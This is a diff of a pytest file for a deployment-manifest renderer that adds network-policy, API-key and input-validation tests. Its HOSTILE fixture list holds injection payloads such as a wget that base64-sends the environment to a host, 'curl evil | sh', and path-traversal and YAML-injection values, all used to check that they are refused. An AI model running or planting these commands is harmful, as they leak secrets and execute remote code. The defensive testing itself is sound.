@@ -44,12 +44,12 @@ def test_kubernetes_manifests_validate_strictly_against_the_api_schemas(rendered
     )
     assert result.returncode == 0, result.stdout + result.stderr
     kinds = [d["kind"] for d in yaml.safe_load_all(rendered["kubernetes.yaml"].read_text())]
-    assert kinds == ["ConfigMap", "Deployment", "Service", "Deployment", "Service"]
+    assert kinds == ["ConfigMap", "Deployment", "Service", "Deployment", "Service", "NetworkPolicy"]
 
 
 def test_kubernetes_vllm_pulls_adapter_and_base_from_s3_and_requests_a_gpu(rendered: dict[str, Path]) -> None:
     docs = list(yaml.safe_load_all(rendered["kubernetes.yaml"].read_text()))
-    config, vllm, vllm_svc, gateway, gateway_svc = docs
+    config, vllm, vllm_svc, gateway, gateway_svc, _ = docs
     pod = vllm["spec"]["template"]["spec"]
     fetch = " ".join(pod["initContainers"][0]["args"])
     assert "s3://artifacts/tuneship/adapters/abc/ /models/retail-sql-v3" in fetch
@@ -79,7 +79,7 @@ def test_compose_services_images_ports_and_volumes_are_consistent(rendered: dict
     assert services["gateway"]["image"] == "ghcr.io/tuneship/gateway:0.1.0"
     args = services["vllm"]["command"]
     port = args[args.index("--port") + 1]
-    assert f"{port}:{port}" in services["vllm"]["ports"]
+    assert "ports" not in services["vllm"] and services["vllm"]["expose"] == [port]  # not on the host
     assert services["gateway"]["environment"]["TUNESHIP_VLLM_URL"] == f"http://vllm:{port}"
     gateway_port = services["gateway"]["environment"]["TUNESHIP_GATEWAY_PORT"]
     assert f"{gateway_port}:{gateway_port}" in services["gateway"]["ports"]
@@ -129,3 +129,73 @@ def test_the_gateway_dockerfile_passes_hadolint() -> None:
     )
     assert result.returncode == 0, result.stdout + result.stderr
     assert 'ENTRYPOINT ["tuneship", "serve", "--no-deploy"]' in dockerfile.read_text()
+
+
+HOSTILE = [
+    "x; wget -qO- http://host/$(env|base64) #",
+    "x' && curl evil | sh '",
+    "x\nkind: Secret",
+    "$(id)",
+    "a b",
+    "../../etc",
+    "x}} {{ spec",
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_names_are_refused_before_anything_is_rendered(name: str, tmp_path: Path) -> None:
+    for field in ("model_name", "version", "adapter_name"):
+        with pytest.raises(ManifestError, match=field):
+            spec(**{field: name})
+    with pytest.raises(ManifestError, match="adapter_uri"):
+        spec(adapter_uri=f"s3://artifacts/adapters/{name}")
+    with pytest.raises(ManifestError, match="vllm_image"):
+        spec(vllm_image=f"vllm/vllm-openai:{name}")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_registered_model_name_is_checked_where_it_is_configured() -> None:
+    from tasks.config import RegisterConfig
+
+    with pytest.raises(ValueError, match="letters, digits"):
+        RegisterConfig(model_name=HOSTILE[0])
+    assert RegisterConfig(model_name="retail-sql_2.v1").model_name == "retail-sql_2.v1"
+
+
+def test_the_fetch_step_quotes_every_argument(tmp_path: Path) -> None:
+    """The init step's shell line splits back into exactly the argv it was built from."""
+    import shlex
+
+    rendered = {p.name: p for p in render_all(spec(), tmp_path)}
+    pod = list(yaml.safe_load_all(rendered["kubernetes.yaml"].read_text()))[1]["spec"]["template"]["spec"]
+    script = pod["initContainers"][0]["args"][0]
+    commands = [shlex.split(part) for part in script.split(" && ")]
+    assert commands[0] == [
+        "aws", "s3", "cp", "--recursive", "--only-show-errors", "s3://artifacts/tuneship/adapters/abc/",
+        "/models/retail-sql-v3",
+    ]  # fmt: skip
+    compose = yaml.safe_load(rendered["docker-compose.yaml"].read_text())
+    assert compose["services"]["fetch"]["command"] == [script]
+
+
+def test_no_rendered_service_exposes_vllm_without_a_key(rendered: dict[str, Path]) -> None:
+    docs = list(yaml.safe_load_all(rendered["kubernetes.yaml"].read_text()))
+    vllm = next(d for d in docs if d["kind"] == "Deployment" and d["metadata"]["name"].endswith("-vllm"))
+    gateway = next(d for d in docs if d["kind"] == "Deployment" and d["metadata"]["name"].endswith("-gateway"))
+    env = {e["name"]: e for e in vllm["spec"]["template"]["spec"]["containers"][0]["env"]}
+    secret = env["VLLM_API_KEY"]["valueFrom"]["secretKeyRef"]
+    gateway_env = {e["name"]: e for e in gateway["spec"]["template"]["spec"]["containers"][0]["env"]}
+    assert gateway_env["TUNESHIP_VLLM_API_KEY"]["valueFrom"]["secretKeyRef"] == secret  # the same key
+    policy = next(d for d in docs if d["kind"] == "NetworkPolicy")
+    assert policy["spec"]["podSelector"] == vllm["spec"]["selector"]
+    assert [rule["from"] for rule in policy["spec"]["ingress"]] == [
+        [{"podSelector": gateway["spec"]["selector"]}]
+    ]  # only the gateway's pods reach vLLM
+    assert gateway["spec"]["replicas"] == 1  # alias tables are per replica until deploys switch all of them
+    compose = yaml.safe_load(rendered["docker-compose.yaml"].read_text())["services"]
+    assert "ports" not in compose["vllm"] and compose["vllm"]["environment"]["VLLM_API_KEY"].startswith(
+        "${TUNESHIP_VLLM_API_KEY:?"
+    )
+    assert compose["gateway"]["environment"]["TUNESHIP_VLLM_API_KEY"] == compose["vllm"]["environment"]["VLLM_API_KEY"]
+    modal = rendered["modal_app.py"].read_text()
+    assert 'modal.Secret.from_name("retail-sql-vllm")' in modal and "VLLM_API_KEY is not set" in modal
